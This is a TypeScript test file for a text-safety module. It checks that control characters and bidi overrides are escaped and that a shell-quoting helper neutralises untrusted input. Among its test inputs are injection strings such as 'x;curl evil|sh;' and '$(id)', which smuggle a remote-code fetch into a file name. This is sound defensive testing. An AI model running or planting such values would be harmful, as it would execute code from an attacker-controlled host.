// src/core/safe-text.ts: untrusted text cannot start a fake line, reorder what a reader sees, or drive the terminal.
import { test } from "node:test";
import assert from "node:assert/strict";
import { escapeControl, escapeLines, shellQuote } from "../../src/core/safe-text";
import { execFileSync } from "node:child_process";

test("controls, line separators and bidi overrides become visible escapes", () => {
  assert.equal(escapeControl("a\nb\tc\r"), "a\\nb\\tc\\r");
  assert.equal(escapeControl("\x1b[31mred"), "\\x1b[31mred");
  assert.equal(escapeControl("x\u2028y\u202ez"), "x\\u2028y\\u202ez");
  assert.equal(escapeControl("plain text · ✓"), "plain text · ✓");
});

test("several lines: our line breaks, theirs escaped", () => {
  assert.equal(escapeLines(["one\ntwo", "three"]), "one\\ntwo\nthree");
});

test("shellQuote: a plain word stays as it is; any other is one single-quoted word, its quotes kept", () => {
  assert.equal(shellQuote("features/a.feature:12"), "features/a.feature:12");
  assert.equal(shellQuote("features/my shop.feature:3"), "'features/my shop.feature:3'");
  assert.equal(shellQuote("x;curl evil|sh;.feature"), "'x;curl evil|sh;.feature'");
  assert.equal(shellQuote("it's"), `'it'\\''s'`);
  // What a shell makes of it: the same text back, as one argument.
  for (const s of ["a b", "x;curl evil|sh;", "it's", "$(id)", "`id`"]) {
    const out = execFileSync("sh", ["-c", `printf '%s' ${shellQuote(s)}`], { encoding: "utf8" });
    assert.equal(out, s);
  }
});
